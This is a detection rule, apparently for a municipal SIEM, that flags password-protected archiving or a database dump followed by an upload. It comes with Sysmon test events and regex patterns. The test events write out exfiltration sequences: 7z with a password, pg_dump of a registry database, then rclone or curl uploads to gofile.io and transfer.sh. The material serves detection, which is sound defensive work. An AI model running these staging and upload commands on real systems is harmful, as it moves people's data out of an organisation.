/*---
id = "DB-15"
title.en = "Data packed and sent out"
title.it = "Dati raccolti e mandati fuori"
description.en = "On one machine data are packed into an archive with a password, or a person's account dumps a database, and within 12 hours after it a program that uploads is started. Backup accounts are left out; dumps by root and the databases' own accounts do not count."
description.it = "Sulla stessa macchina i dati vengono chiusi in un archivio con password, o l'account di una persona estrae una base dati, e nelle 12 ore seguenti parte un programma che carica altrove. Gli account di backup sono esclusi; le estrazioni fatte da root e dagli account dei database non contano."
severity = "critical"
family = "database"
window = "12h"
entity = ["host_name"]
attack = ["T1560.001", "T1567.002", "T1041"]
acn_class = "Esfiltrazione / IS-1"
requires = { columns = ["host_name", "process_command_line"] }
false_positives = ["the copy to the cloud made by a script of ours"]
false_positives_it = ["la copia in cloud fatta da uno script nostro"]
response_it = [
  "1. Staccare la macchina dalla rete.",
  "2. Bloccare la destinazione sul firewall.",
  "3. Vedere che cosa c'era nell'archivio: il DPO decide se avviare le 72 ore.",
  "4. COSC.",
]

[list.backup_accounts]
when_empty = "nothing-listed"

[[test]]
name = "packed with a password, then uploaded"
alerts = [{ host_name = "SRV-FILE.comune.example" }]
[[test.line]]
text = '''{"@timestamp":"{utc}","winlog":{"event_id":"1","channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","computer_name":"SRV-FILE.comune.example","event_data":{"Image":"C:\\Temp\\7z.exe","CommandLine":"7z.exe a -pSegreto -mhe c:\\temp\\a.7z d:\\anagrafe","ParentImage":"C:\\Windows\\System32\\cmd.exe","User":"COMUNE\\mrossi"}}}'''
[[test.line]]
text = '''{"@timestamp":"{utc}","winlog":{"event_id":"1","channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","computer_name":"SRV-FILE.comune.example","event_data":{"Image":"C:\\Temp\\rclone.exe","CommandLine":"rclone.exe copy c:\\temp\\a.7z remoto:x","ParentImage":"C:\\Windows\\System32\\cmd.exe","User":"COMUNE\\mrossi"}}}'''
at = "40m"

[[test]]
name = "an archive for a colleague"
alerts = []
[[test.line]]
text = '''{"@timestamp":"{utc}","winlog":{"event_id":"1","channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","computer_name":"PC-RAG-01.comune.example","event_data":{"Image":"C:\\Program Files\\7-Zip\\7z.exe","CommandLine":"7z.exe a c:\\temp\\a.7z d:\\foto","ParentImage":"C:\\Windows\\explorer.exe","User":"COMUNE\\mrossi"}}}'''

[[test]]
name = "a clerk dumps a base and sends it"
alerts = [{ host_name = "SRV-DB.comune.example" }]
[[test.line]]
text = '''{"@timestamp":"{utc}","winlog":{"event_id":"1","channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","computer_name":"SRV-DB.comune.example","event_data":{"Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"\"C:\\Program Files\\PostgreSQL\\bin\\pg_dump.exe\" -f d:\\x.sql anagrafe","ParentImage":"C:\\Windows\\System32\\cmd.exe","User":"COMUNE\\mrossi"}}}'''
[[test.line]]
text = '''{"@timestamp":"{utc}","winlog":{"event_id":"1","channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","computer_name":"SRV-DB.comune.example","event_data":{"Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"curl.exe -s -T d:\\x.sql https://store1.gofile.io/x","ParentImage":"C:\\Windows\\System32\\cmd.exe","User":"COMUNE\\mrossi"}}}'''
at = "40m"

[[test]]
name = "encrypted with gpg, then sent"
alerts = [{ host_name = "SRV-DB.comune.example" }]
[[test.line]]
text = '''{"@timestamp":"{utc}","winlog":{"event_id":"1","channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","computer_name":"SRV-DB.comune.example","event_data":{"Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"gpg.exe --batch -c d:\\x.sql","ParentImage":"C:\\Windows\\System32\\cmd.exe","User":"COMUNE\\mrossi"}}}'''
[[test.line]]
text = '''{"@timestamp":"{utc}","winlog":{"event_id":"1","channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","computer_name":"SRV-DB.comune.example","event_data":{"Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"curl.exe -F f=@x https://transfer.sh/","ParentImage":"C:\\Windows\\System32\\cmd.exe","User":"COMUNE\\mrossi"}}}'''
at = "40m"

[[test]]
name = "the nightly backup, by an account of the list"
lists = { backup_accounts = ["svc_notte"] }
alerts = []
[[test.line]]
text = '''{"@timestamp":"{utc}","winlog":{"event_id":"1","channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","computer_name":"SRV-DB.comune.example","event_data":{"Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"pg_dump.exe -f d:\\copie\\x.sql anagrafe","ParentImage":"C:\\Windows\\System32\\cmd.exe","User":"COMUNE\\svc_notte"}}}'''
[[test.line]]
text = '''{"@timestamp":"{utc}","winlog":{"event_id":"1","channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","computer_name":"SRV-DB.comune.example","event_data":{"Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"rclone.exe copy d:\\copie remoto:notte","ParentImage":"C:\\Windows\\System32\\cmd.exe","User":"COMUNE\\svc_notte"}}}'''
at = "40m"

[[test]]
name = "the nightly backup, by the database's own account"
alerts = []
[[test.line]]
text = '''{"@timestamp":"{utc}","winlog":{"event_id":"1","channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","computer_name":"SRV-DB.comune.example","event_data":{"Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"pg_dump.exe -f d:\\copie\\x.sql anagrafe","ParentImage":"C:\\Windows\\System32\\cmd.exe","User":"SRV-DB\\postgres"}}}'''
[[test.line]]
text = '''{"@timestamp":"{utc}","winlog":{"event_id":"1","channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","computer_name":"SRV-DB.comune.example","event_data":{"Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"rclone.exe copy d:\\copie remoto:notte","ParentImage":"C:\\Windows\\System32\\cmd.exe","User":"SRV-DB\\postgres"}}}'''
at = "40m"

[[test]]
name = "sent before anything was packed"
alerts = []
[[test.line]]
text = '''{"@timestamp":"{utc}","winlog":{"event_id":"1","channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","computer_name":"SRV-DB.comune.example","event_data":{"Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"rclone.exe copy d:\\copie remoto:notte","ParentImage":"C:\\Windows\\System32\\cmd.exe","User":"COMUNE\\mrossi"}}}'''
[[test.line]]
text = '''{"@timestamp":"{utc}","winlog":{"event_id":"1","channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","computer_name":"SRV-DB.comune.example","event_data":{"Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"7z.exe a -pSegreto c:\\temp\\a.7z d:\\anagrafe","ParentImage":"C:\\Windows\\System32\\cmd.exe","User":"COMUNE\\mrossi"}}}'''
at = "40m"

[[test]]
name = "keys listed, an archive opened, and a page fetched with a time limit"
alerts = []
[[test.line]]
text = '''{"@timestamp":"{utc}","winlog":{"event_id":"1","channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","computer_name":"SRV-DB.comune.example","event_data":{"Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"gpg.exe --list-keys --with-colons --check-sigs","ParentImage":"C:\\Windows\\System32\\cmd.exe","User":"COMUNE\\mrossi"}}}'''
[[test.line]]
text = '''{"@timestamp":"{utc}","winlog":{"event_id":"1","channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","computer_name":"SRV-DB.comune.example","event_data":{"Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"7z.exe x -pSegreto c:\\temp\\a.7z","ParentImage":"C:\\Windows\\System32\\cmd.exe","User":"COMUNE\\mrossi"}}}'''
at = "1m"
[[test.line]]
text = '''{"@timestamp":"{utc}","winlog":{"event_id":"1","channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","computer_name":"SRV-DB.comune.example","event_data":{"Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"openssl.exe enc -d -aes-256-cbc -in a -out b","ParentImage":"C:\\Windows\\System32\\cmd.exe","User":"COMUNE\\mrossi"}}}'''
at = "2m"
[[test.line]]
text = '''{"@timestamp":"{utc}","winlog":{"event_id":"1","channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","computer_name":"SRV-DB.comune.example","event_data":{"Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"curl.exe -t x telnet://10.20.4.1","ParentImage":"C:\\Windows\\System32\\cmd.exe","User":"COMUNE\\mrossi"}}}'''
at = "40m"
[[test.line]]
text = '''{"@timestamp":"{utc}","winlog":{"event_id":"1","channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","computer_name":"SRV-DB.comune.example","event_data":{"Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"curl.exe https://www.comune.example/profile.io/x","ParentImage":"C:\\Windows\\System32\\cmd.exe","User":"COMUNE\\mrossi"}}}'''
at = "41m"
[[test.line]]
text = '''{"@timestamp":"{utc}","winlog":{"event_id":"1","channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","computer_name":"SRV-DB.comune.example","event_data":{"Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"rclone.exe copy d:\\copie remoto:notte","ParentImage":"C:\\Windows\\System32\\cmd.exe","User":"COMUNE\\mrossi"}}}'''
at = "42m"

[[test]]
name = "packed, and a page with a like name fetched"
alerts = []
[[test.line]]
text = '''{"@timestamp":"{utc}","winlog":{"event_id":"1","channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","computer_name":"SRV-DB.comune.example","event_data":{"Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"7z.exe a -pSegreto c:\\temp\\a.7z d:\\anagrafe","ParentImage":"C:\\Windows\\System32\\cmd.exe","User":"COMUNE\\mrossi"}}}'''
[[test.line]]
text = '''{"@timestamp":"{utc}","winlog":{"event_id":"1","channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","computer_name":"SRV-DB.comune.example","event_data":{"Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"curl.exe https://www.profile.io/modulo.pdf","ParentImage":"C:\\Windows\\System32\\cmd.exe","User":"COMUNE\\mrossi"}}}'''
at = "40m"
[[test.line]]
text = '''{"@timestamp":"{utc}","winlog":{"event_id":"1","channel":"Microsoft-Windows-Sysmon/Operational","provider_name":"Microsoft-Windows-Sysmon","computer_name":"SRV-DB.comune.example","event_data":{"Image":"C:\\Windows\\System32\\cmd.exe","CommandLine":"curl.exe -t x telnet://10.20.4.1","ParentImage":"C:\\Windows\\System32\\cmd.exe","User":"COMUNE\\mrossi"}}}'''
at = "41m"
---*/
SELECT host_name, min(user_name) AS user_name
FROM events
WHERE event_action IN ('process_start', 'privilege_use') AND host_name IS NOT NULL AND in_list(user_name, 'backup_accounts') IS NOT TRUE
  AND ((regexp_like(process_command_line, '(^|[\\/\s"])((7z[ar]?|rar|winrar)(\.exe)?"?\s+[au]\s(.*\s)?-(hp|p|mhe)|zip(\.exe)?"?\s(.*\s)?(-[a-z]*e\s|(?-i:-P)|--password|--encrypt)|gpg2?(\.exe)?"?\s(.*\s)?(-[a-z]{0,4}c|--symmetric)(\s|$)|openssl(\.exe)?"?\s+enc\s)', 'i')
      AND NOT regexp_like(process_command_line, 'openssl(\.exe)?"?\s+enc\s(.*\s)?-d(\s|$)', 'i')
    OR regexp_like(process_command_line, '(^|[\\/\s"])(pg_dump(all)?|mysqldump|mariadb-dump|expdp)(\.exe)?"?\s', 'i')
      AND NOT regexp_like(coalesce(user_name, ''), '(backup|bkp|^postgres$|^root$|^mysql$|^oracle$|^system$)', 'i'))
    OR regexp_like(process_command_line, '(^|[\\/\s"])(rclone(\.exe)?"?(\s.*)?\s(copy|copyto|sync|move|moveto)\s|mega(cmd|-put)|curl(\.exe)?"?\s(.*\s)?((?-i:-T)|--upload-file))|https?://([a-z0-9.-]+\.)?(transfer\.sh|file\.io|gofile\.io|temp\.sh)([/:\s"]|$)', 'i'))
GROUP BY host_name
HAVING min(timestamp) FILTER (WHERE (regexp_like(process_command_line, '(^|[\\/\s"])((7z[ar]?|rar|winrar)(\.exe)?"?\s+[au]\s(.*\s)?-(hp|p|mhe)|zip(\.exe)?"?\s(.*\s)?(-[a-z]*e\s|(?-i:-P)|--password|--encrypt)|gpg2?(\.exe)?"?\s(.*\s)?(-[a-z]{0,4}c|--symmetric)(\s|$)|openssl(\.exe)?"?\s+enc\s)', 'i')
      AND NOT regexp_like(process_command_line, 'openssl(\.exe)?"?\s+enc\s(.*\s)?-d(\s|$)', 'i')
    OR regexp_like(process_command_line, '(^|[\\/\s"])(pg_dump(all)?|mysqldump|mariadb-dump|expdp)(\.exe)?"?\s', 'i')
      AND NOT regexp_like(coalesce(user_name, ''), '(backup|bkp|^postgres$|^root$|^mysql$|^oracle$|^system$)', 'i')))
   <= max(timestamp) FILTER (WHERE regexp_like(process_command_line, '(^|[\\/\s"])(rclone(\.exe)?"?(\s.*)?\s(copy|copyto|sync|move|moveto)\s|mega(cmd|-put)|curl(\.exe)?"?\s(.*\s)?((?-i:-T)|--upload-file))|https?://([a-z0-9.-]+\.)?(transfer\.sh|file\.io|gofile\.io|temp\.sh)([/:\s"]|$)', 'i'))
